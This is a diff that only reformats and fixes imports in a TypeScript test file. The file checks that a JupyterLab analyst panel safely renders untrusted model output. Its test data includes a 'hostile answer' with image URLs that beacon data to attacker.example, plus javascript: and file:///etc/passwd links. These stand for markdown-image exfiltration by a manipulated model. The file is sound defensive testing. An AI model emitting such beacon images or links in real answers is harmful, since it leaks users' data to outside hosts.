@@ -18,14 +18,15 @@ import {
 import { Widget } from '@lumino/widgets';
 import * as React from 'react';
 
-import { ArtifactCard } from '../components/cards/ArtifactCard';
-import { AnalystPanel } from '../panel';
-import { untrustedRendermime } from '../untrusted';
+import { ArtifactCard } from '../../components/cards/ArtifactCard';
+import { AnalystPanel } from '../../widgets/AnalystPanel';
+import { untrustedRendermime } from '../../untrusted';
 import { loads } from './loads';
-import { renderStatic } from './staticMarkup';
+import { renderStatic } from '../staticMarkup';
 
 /** A 1x1 PNG, base64. */
-const DOT_BYTES = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+const DOT_BYTES =
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
 
 /** An answer the model could write after reading the revenue per region. */
 const HOSTILE_ANSWER = [
@@ -66,7 +67,10 @@ interface IRendered {
 }
 
 /** The bundle rendered untrusted, as the panel renders it. */
-async function render(registry: IRenderMimeRegistry, data: Record<string, string>): Promise<IRendered> {
+async function render(
+  registry: IRenderMimeRegistry,
+  data: Record<string, string>
+): Promise<IRendered> {
   const inserted: string[] = [];
   const record = (records: MutationRecord[]): void => {
     for (const { addedNodes } of records) {
@@ -100,7 +104,9 @@ describe("the panel's rendermime", () => {
     expect(registry).not.toBe(given);
     const { node, inserted } = await render(registry, { 'text/markdown': HOSTILE_ANSWER });
     expect(inserted).toEqual([]);
-    expect(node.textContent).toContain('[image: revenue chart, http://attacker.example/beacon.png?d=North-1204]');
+    expect(node.textContent).toContain(
+      '[image: revenue chart, http://attacker.example/beacon.png?d=North-1204]'
+    );
     panel.dispose();
   });
 
@@ -114,13 +120,17 @@ describe("the panel's rendermime", () => {
       ])
     );
 
-    const { node, inserted } = await render(untrustedRendermime(jupyterLabRendermime()), { 'text/markdown': HOSTILE_ANSWER });
+    const { node, inserted } = await render(untrustedRendermime(jupyterLabRendermime()), {
+      'text/markdown': HOSTILE_ANSWER
+    });
     expect(inserted).toEqual([]);
     expect(loads(node.innerHTML)).toEqual([]);
     expect(node.innerHTML).not.toMatch(/attacker\.example\/(?:css|poster|input)/);
     const text = node.textContent!;
     expect(text).toContain('North leads with 1,204.');
-    expect(text).toContain('[image: revenue chart, http://attacker.example/beacon.png?d=North-1204]');
+    expect(text).toContain(
+      '[image: revenue chart, http://attacker.example/beacon.png?d=North-1204]'
+    );
     expect(text).toContain('[image: html, https://attacker.example/html.png?d=secret]');
     expect(node.querySelector('span')!.textContent).toBe('styled');
     expect(node.querySelector('button')!.textContent).toBe('Open the report');
@@ -128,12 +138,19 @@ describe("the panel's rendermime", () => {
     // The embedded image stays, and is the only image with a source (JupyterLab's
     // sanitizer dropped the srcset of the other: it shows its alt text).
     const images = Array.from(node.querySelectorAll('img[src]'));
-    expect(images.map(img => img.getAttribute('src'))).toEqual([`data:image/png;base64,${DOT_BYTES}`]);
+    expect(images.map(img => img.getAttribute('src'))).toEqual([
+      `data:image/png;base64,${DOT_BYTES}`
+    ]);
   });
 
   it('keeps http(s) links, in a new tab without opener or referrer, and no other', async () => {
-    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), { 'text/markdown': HOSTILE_ANSWER });
-    const links = Array.from(node.querySelectorAll('a')).map(a => [a.textContent, a.getAttribute('href')]);
+    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), {
+      'text/markdown': HOSTILE_ANSWER
+    });
+    const links = Array.from(node.querySelectorAll('a')).map(a => [
+      a.textContent,
+      a.getAttribute('href')
+    ]);
     expect(links).toEqual([
       ['report', 'https://example.org/report'],
       ['file', null],
@@ -141,7 +158,10 @@ describe("the panel's rendermime", () => {
       ['https://example.org/bare', 'https://example.org/bare']
     ]);
     for (const a of Array.from(node.querySelectorAll('a[href]'))) {
-      expect([a.getAttribute('target'), a.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer']);
+      expect([a.getAttribute('target'), a.getAttribute('rel')]).toEqual([
+        '_blank',
+        'noopener noreferrer'
+      ]);
     }
   });
 
@@ -155,7 +175,10 @@ describe("the panel's rendermime", () => {
       'img[src=https://attacker.example/cell.png?d=2]'
     ]);
 
-    const { node, inserted } = await render(untrustedRendermime(jupyterLabRendermime()), { 'text/html': html, 'text/plain': '1' });
+    const { node, inserted } = await render(untrustedRendermime(jupyterLabRendermime()), {
+      'text/html': html,
+      'text/plain': '1'
+    });
     expect(inserted).toEqual([]);
     expect(node.querySelector('td')!.hasAttribute('style')).toBe(false);
     expect(node.textContent).toBe('1[image: cell, https://attacker.example/cell.png?d=2]');
@@ -163,7 +186,8 @@ describe("the panel's rendermime", () => {
 
   it('links found in text lead nowhere but http(s), without referrer', async () => {
     // JupyterLab makes links of any URL it finds in text, after the sanitizer ran.
-    const text = 'see https://example.org/a and javascript://example.org/%0aalert(1) and file:///etc/passwd';
+    const text =
+      'see https://example.org/a and javascript://example.org/%0aalert(1) and file:///etc/passwd';
     const plain = (await render(jupyterLabRendermime(), { 'text/plain': text })).node;
     expect(Array.from(plain.querySelectorAll('a')).map(a => a.getAttribute('href'))).toEqual([
       'https://example.org/a',
@@ -171,7 +195,9 @@ describe("the panel's rendermime", () => {
       'file:///etc/passwd'
     ]);
 
-    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), { 'text/plain': text });
+    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), {
+      'text/plain': text
+    });
     expect(node.textContent).toBe(text);
     const links = Array.from(node.querySelectorAll('a'));
     expect(links.map(a => [a.getAttribute('href'), a.getAttribute('rel')])).toEqual([
@@ -182,8 +208,13 @@ describe("the panel's rendermime", () => {
   });
 
   it('keeps an image output, drawn from its data', async () => {
-    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), { 'image/png': DOT_BYTES, 'text/plain': 'dot' });
-    expect(node.querySelector('img')!.getAttribute('src')).toBe(`data:image/png;base64,${DOT_BYTES}`);
+    const { node } = await render(untrustedRendermime(jupyterLabRendermime()), {
+      'image/png': DOT_BYTES,
+      'text/plain': 'dot'
+    });
+    expect(node.querySelector('img')!.getAttribute('src')).toBe(
+      `data:image/png;base64,${DOT_BYTES}`
+    );
   });
 
   it('makes math inert once typeset', async () => {
@@ -208,7 +239,9 @@ describe("the panel's rendermime", () => {
       markdownParser: createMarkdownParser(new EditorLanguageRegistry()),
       latexTypesetter: mathJax
     });
-    const { node } = await render(untrustedRendermime(base), { 'text/markdown': 'the square: $x^2$' });
+    const { node } = await render(untrustedRendermime(base), {
+      'text/markdown': 'the square: $x^2$'
+    });
     expect(typeset).not.toBeNull();
     loaded();
     // The transform follows the typesetting as soon as it is done (a reaction registered first).
